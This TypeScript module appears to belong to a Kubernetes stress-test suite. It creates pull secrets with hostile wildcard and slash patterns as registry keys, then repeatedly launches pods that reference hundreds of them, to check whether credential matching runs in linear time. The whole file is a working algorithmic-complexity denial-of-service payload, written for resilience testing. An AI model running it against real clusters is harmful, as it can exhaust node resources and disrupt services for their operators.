import { setTimeout as sleep } from "node:timers/promises";
import { createObject, createPod, deletePod, shell } from "../lib/attack-pods.ts";
import type { Attack } from "./attack.ts";

/** Pull secrets whose servers are patterns that are slow to match, for images that must be pulled. */
export const attack: Attack = {
  name: "pull secrets with hostile patterns",
  claim: "matched in linear time",
  needs: "node",

  async prepare(target) {
    const login = { username: "u", password: "p" };
    const auths = {
      [`${"*l*o".repeat(2000)}*x:1`]: login,
      [`${"/".repeat(200_000)}x`]: login,
      [`localhost:1/${"/".repeat(200_000)}x`]: login,
      ...Object.fromEntries(Array.from({ length: 200 }, (_, at) => [`${"*l".repeat(20 + at)}*b:1`, login])),
    };
    const data = { ".dockerconfigjson": Buffer.from(JSON.stringify({ auths })).toString("base64") };
    for (let at = 0; at < 4; at++) {
      await createObject(target, "Secret", {
        metadata: { name: `pull-${at}` },
        type: "kubernetes.io/dockerconfigjson",
        data,
      });
    }
  },

  async run(target, signal) {
    const imagePullSecrets = Array.from({ length: 400 }, (_, at) => ({ name: `pull-${at % 4}` }));
    let pulls = 0;
    for (; !signal.aborted; pulls++) {
      const image = `localhost:1/a/${pulls}`;
      await createPod(target, `pull-${pulls}`, { imagePullSecrets, containers: [{ ...shell("true"), image }] });
      await sleep(500);
      await deletePod(target, `pull-${pulls}`);
    }
    return `${pulls} pulls`;
  },
};
